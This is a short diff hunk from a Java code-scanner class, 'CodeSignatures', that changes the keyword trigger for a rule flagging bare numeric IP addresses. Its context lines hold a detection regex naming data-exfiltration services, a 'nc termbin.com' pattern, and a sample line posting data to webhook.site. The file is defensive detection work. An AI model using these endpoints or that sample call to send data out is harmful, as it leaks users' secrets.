@@ -270,7 +270,7 @@ public final class CodeSignatures {
                   "(?:https?://(?:[a-z0-9-]+\\.)*(?:webhook\\.site|requestbin\\.(?:com|net)|pipedream\\.net|transfer\\.sh|file\\.io|0x0\\.st|pastebin\\.com/(?:raw|api)|discord(?:app)?\\.com/api/webhooks/[0-9]{6,}|oast\\.(?:fun|pro|live|site|me)|interact\\.sh|burpcollaborator\\.net)|\\bnc\\s+termbin\\.com)",
                   "requests.post('https://webhook.site/1b2c', data=body)",
                   "from file.io import reader"),
-          Signature.about(ScanRule.RAW_ADDRESS, "The address is a bare number.", "http")
+          Signature.about(ScanRule.RAW_ADDRESS, "The address is a bare number.", Keywords.numbers())
               .unless(
                   "https?://(?:127\\.|10\\.|0\\.0\\.0\\.0|192\\.168\\.|172\\.(?:1[6-9]|2[0-9]|3[01])\\.|169\\.254\\.|192\\.0\\.2\\.|198\\.51\\.100\\.|203\\.0\\.113\\.|1\\.2\\.3\\.4)")
               .pattern(
